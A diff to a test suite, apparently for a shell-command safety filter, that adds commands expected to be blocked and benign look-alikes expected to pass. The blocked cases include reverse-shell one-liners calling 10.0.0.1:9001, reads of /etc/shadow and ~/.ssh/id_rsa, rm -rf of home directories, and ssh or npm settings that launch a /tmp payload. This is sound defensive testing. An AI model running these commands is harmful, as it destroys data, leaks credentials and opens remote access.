@@ -48,6 +48,21 @@ stopped("files that keep their name", [
   "parallel --pipe sh <<< 'rm -rf ~'",
 ]);
 
+stopped("commands put together from options", [
+  "start-stop-daemon --start --exec /bin/rm -- -rf /home/dev",
+  "mvn exec:exec -Dexec.executable=sh -Dexec.args='-c \"rm -rf ~\"'",
+  "machinectl shell root@.host /bin/cat /etc/shadow",
+  "rcat connect -s sh 10.0.0.1 9001",
+  "nim r --eval:'import net,osproc; var s=newSocket(); s.connect(\"10.0.0.1\",Port(9001)); s.send(execProcess(s.recvLine()))'",
+]);
+
+stopped("what a setting starts runs here", [
+  "ssh -o 'ProxyCommand=cat ~/.ssh/id_rsa' host",
+  "ssh -o ProxyCommand=/tmp/payload.sh host",
+  "ansible localhost -m shell -a 'cat ~/.ssh/id_rsa'",
+  "npm config set script-shell /tmp/payload.sh",
+]);
+
 stopped("a shell under another name", ["ln -s /bin/sh git-x; git --exec-path=. x", "cp /bin/bash ls"]);
 
 describe("ordinary use of the same", () => {
@@ -67,6 +82,9 @@ describe("ordinary use of the same", () => {
     ["ssh host -- uptime"],
     ["ruby -run -e mkdir -- -p out"],
     ["CFLAGS='-O2 -g' make"],
+    ["start-stop-daemon --stop --pidfile app.pid"],
+    ["ssh -o 'ProxyCommand=ssh -W %h:%p jump' host uptime"],
+    ["npm config set script-shell /bin/bash"],
     ["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*' git status"],
     ["ls package.json | xargs cat"],
     ["scp host:report.csv ."],
